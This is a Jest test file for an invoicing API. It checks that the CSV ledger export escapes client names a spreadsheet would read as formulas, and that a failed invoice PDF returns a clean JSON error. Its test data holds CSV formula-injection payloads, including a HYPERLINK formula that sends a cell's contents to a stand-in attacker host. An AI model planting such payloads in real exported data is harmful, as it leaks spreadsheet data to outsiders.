import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { todayInPalma } from '../common/calendar.js';
import { intLocalId } from '../common/relay/global-id.js';
import { queryBehindTriggers } from '../testing/table-contents.js';
import { createTestApp, type TestApp } from '../testing/test-app.js';

const CREATE_CLIENT = 'mutation C($input: CreateClientInput!) { createClient(input: $input) { client { id } } }';
const CREATE_INVOICE = 'mutation I($input: CreateInvoiceInput!) { createInvoice(input: $input) { invoice { id number pdfUrl } } }';
const RECTIFY = 'mutation R($input: CreateRectifyingInvoiceInput!) { createRectifyingInvoice(input: $input) { invoice { number } } }';

/** A semicolon-separated line, quotes honoured: the cells a spreadsheet reads. */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const char = line[i];
    if (quoted && char === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') quoted = !quoted;
    else if (char === ';' && !quoted) {
      cells.push(cell);
      cell = '';
    } else cell += char;
  }
  return [...cells, cell];
}

describe('documents built from what people typed', () => {
  let api: TestApp;
  let admin: string;
  const as = <T>(query: string, variables: Record<string, unknown>) => api.graphql<T>(query, variables, { token: admin });
  const get = (path: string) => fetch(`${api.url}${path}`, { headers: { authorization: `Bearer ${admin}` } });
  /** A client named `name`, identified (their invoices name them), with one invoice. */
  const invoiceFor = async (name: string, email: string) => {
    const client = await as<{ createClient: { client: { id: string } } }>(CREATE_CLIENT, {
      input: { name, email, language: 'es', taxIdentity: { kind: 'NIF', number: '12345678Z' } },
    });
    expect(client.errors).toBeUndefined();
    const invoice = await as<{ createInvoice: { invoice: { id: string; number: string; pdfUrl: string } } }>(CREATE_INVOICE, {
      input: { customerId: client.data!.createClient.client.id, lines: [{ description: '-Revisión de baterías', quantity: 1, unitPriceCents: 12_345 }] },
    });
    expect(invoice.errors).toBeUndefined();
    return invoice.data!.createInvoice.invoice;
  };

  beforeAll(async () => {
    api = await createTestApp();
    admin = (await api.login('admin@demo.com', 'Admin123!')).token;
  });
  afterAll(() => api.close());

  it('neutralises in the libro registro every text cell a spreadsheet would take for a formula; amounts stay numbers', async () => {
    const names = ['=HYPERLINK("https://evil.example/?"&A1,"Abrir")', '+34 600 000 000 Náutica', '@SUM(1+1)*cmd', '-Náutica Menos'];
    const invoices = [];
    for (const [i, name] of names.entries()) invoices.push(await invoiceFor(name, `formula${i}@example.com`));
    // A credit of the first: its amounts are negative numbers.
    const credit = await as(RECTIFY, { input: { invoiceId: invoices[0].id, reason: 'Anulada por error', method: 'DIFFERENCES', cause: 'R4' } });
    expect(credit.errors).toBeUndefined();

    const today = todayInPalma();
    const response = await get(`/invoices/ledger.csv?year=${today.slice(0, 4)}&quarter=${Math.ceil(Number(today.slice(5, 7)) / 3)}`);
    expect(response.status).toBe(200);
    const rows = (await response.text())
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n')
      .map(cellsOf);
    const [header, ...lines] = rows;
    const name = header.indexOf('Nombre del destinatario');
    const amounts = ['Base imponible', 'Cuota de IVA', 'Total de la factura'].map((column) => header.indexOf(column));
    for (const text of names) expect(lines.map((line) => line[name])).toContain(`'${text}`);
    for (const line of lines) {
      line.forEach((cell, column) => {
        if (amounts.includes(column)) expect(cell).toMatch(/^-?\d+,\d{2}$/);
        else expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      });
    }
    // The credit's line: its amounts negative, written as numbers.
    expect(lines.some((line) => line[name] === `'${names[0]}` && line[amounts[0]] === '-123,45')).toBe(true);
  });

  it('answers a clear error for an invoice whose PDF cannot be built; the other documents and /health are unaffected', async () => {
    const broken = await invoiceFor('Náutica Rota S.L.', 'rota@example.com');
    const sound = await invoiceFor('Náutica Sana S.L.', 'sana@example.com');
    // Stored data the renderer cannot print (an issuer without its address), as a fault in it would be.
    await queryBehindTriggers(api.databaseUrl, 'invoices', `UPDATE invoices SET issuer = issuer - 'address' WHERE id = $1`, [intLocalId(broken.id, 'Invoice')]);

    const failed = await get(broken.pdfUrl);
    expect(failed.status).toBe(500);
    expect(failed.headers.get('content-type')).toMatch(/application\/json/);
    expect(await failed.json()).toEqual({ error: { code: 'DOCUMENT_FAILED', message: expect.stringContaining(`invoice ${broken.number} could not be made`) } });

    expect((await fetch(`${api.url}/health`)).status).toBe(200);
    const fine = await get(sound.pdfUrl);
    expect(fine.status).toBe(200);
    expect(fine.headers.get('content-type')).toBe('application/pdf');
  });
});
